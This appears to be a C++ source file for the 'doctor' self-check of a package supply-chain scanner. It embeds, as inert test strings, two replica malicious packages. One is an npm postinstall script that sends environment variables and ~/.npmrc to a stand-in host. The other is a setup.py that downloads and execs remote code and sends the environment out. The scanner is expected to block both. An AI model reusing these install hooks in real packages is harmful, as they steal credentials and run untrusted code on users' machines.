#include <fmt/format.h>

#include "base/text.h"
#include "cli/commands.h"
#include "cli/configuration.h"
#include "ecosystems/registry/curl_library.h"
#include "package/package.h"
#include "scan/scan.h"

namespace assay {
namespace {

// Replicas of two incidents, inert: the names are reserved, nothing listens there, and they are
// only ever read.
constexpr std::string_view npm_replica = R"(==> package.json
{"name": "doctor-replica", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
==> setup.js
const https = require('https');
const fs = require('fs');
const os = require('os');
const body = JSON.stringify({
  env: process.env,
  npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'),
});
const request = https.request({host: 'collect.example.test', path: '/in', method: 'POST'});
request.write(body);
request.end();
)";

constexpr std::string_view pypi_replica = R"(==> PKG-INFO
Metadata-Version: 2.1
Name: doctor-replica
Version: 1.0.0
==> setup.py
import os
import urllib.request
from setuptools import setup

script = urllib.request.urlopen("https://payload.example.test/a.py").read()
exec(script)
urllib.request.urlopen("https://collect.example.test/", data=str(dict(os.environ)).encode())
setup(name="doctor-replica", version="1.0.0")
)";

constexpr std::string_view harmless_twin = R"(==> package.json
{"name": "doctor-twin", "version": "1.0.0", "description": "Adds numbers", "main": "index.js",
 "repository": {"type": "git", "url": "https://code.example.test/doctor-twin.git"}}
==> README.md
# doctor-twin
Adds two numbers, as the name does not say.
==> index.js
module.exports = (a, b) => a + b;
)";

struct SelfTest {
  std::string_view name;
  std::string_view bundle;
  Ecosystem ecosystem;
  ArtifactKind kind;
  Decision expected;
};
constexpr SelfTest self_tests[] = {
    {"npm incident replica", npm_replica, Ecosystem::npm, ArtifactKind::npm_tarball,
     Decision::block},
    {"PyPI incident replica", pypi_replica, Ecosystem::pypi, ArtifactKind::sdist, Decision::block},
    {"harmless twin", harmless_twin, Ecosystem::npm, ArtifactKind::npm_tarball, Decision::allow},
};

class Checks {
 public:
  void good(std::string_view what, std::string_view detail) { line("ok", what, detail); }
  void note(std::string_view what, std::string_view detail) { line("--", what, detail); }
  void bad(std::string_view what, std::string_view detail) {
    line("BAD", what, detail);
    is_well_ = false;
  }
  bool is_well() const { return is_well_; }

 private:
  static void line(std::string_view mark, std::string_view what, std::string_view detail) {
    fmt::print("{:<4} {:<22} {}\n", mark, what, escape_for_display(detail, 400));
  }

  bool is_well_ = true;
};

void check_verdicts(Checks& checks, const Clock& clock) {
  for (const SelfTest& test : self_tests) {
    Package package = package_from_bundle(test.bundle);
    package.kind = test.kind;
    package.id.ecosystem = test.ecosystem;
    const Report report = scan_package(package, {.policy = {{}, clock.now()}});
    std::string detail(to_string(report.verdict.decision));
    for (const std::string_view reason : report.verdict.reasons)
      detail += fmt::format(" {}", reason);
    if (report.verdict.decision == test.expected) {
      checks.good(test.name, detail);
    } else {
      checks.bad(test.name, fmt::format("{}, and not {}", detail, to_string(test.expected)));
    }
  }
}

void check_configuration(Checks& checks, const ClientEnvironment& environment) {
  const Result<Configuration> configuration = load_configuration({}, "", {}, environment);
  if (!configuration) {
    checks.bad("configuration", configuration.error().message);
    return;
  }
  std::string files;
  for (const std::string& file : configuration->files) files += (files.empty() ? "" : ", ") + file;
  checks.good("configuration", files.empty() ? "defaults, no assay.toml" : files);
}

void check_cache(Checks& checks, ClientEnvironment& environment) {
  const std::string cache = environment.xdg_cache_home();
  if (cache.empty()) {
    checks.note("cache", "neither HOME nor XDG_CACHE_HOME is set: nothing is remembered");
    return;
  }
  const std::string probe = cache + "/assay/doctor";
  const Result<void> written = environment.write_file(probe, "ok\n");
  if (written) {
    checks.good("cache", cache + "/assay");
  } else {
    checks.note("cache", written.error().message);
  }
}

void check_clients(Checks& checks, const ClientEnvironment& environment) {
  for (const std::string_view client : {"npm", "pip3", "uv"}) {
    const std::string path = environment.find_program(client);
    checks.note(client, path.empty() ? "not on PATH: its own default registry is not known" : path);
  }
  const auto curl = CurlLibrary::load();
  if (curl) {
    checks.good("libcurl", (*curl)->version_info(CURLVERSION_NOW)->version);
  } else {
    checks.note("libcurl", curl.error().message + ": packages cannot be fetched by name");
  }
}

}  // namespace

ExitCode run_doctor(World& world) {
  const Tool tool = this_tool();
  Checks checks;
  checks.good("assay", fmt::format("{}, ruleset {}, {} rules", tool.version, tool.ruleset,
                                   tool.rules.size()));
  check_verdicts(checks, world.clock);
  check_configuration(checks, world.environment);
  check_cache(checks, world.environment);
  check_clients(checks, world.environment);
  fmt::print("\n{}\n", checks.is_well() ? "All is well." : "Something is wrong: see BAD above.");
  return checks.is_well() ? ExitCode::clean : ExitCode::broken;
}

}  // namespace assay
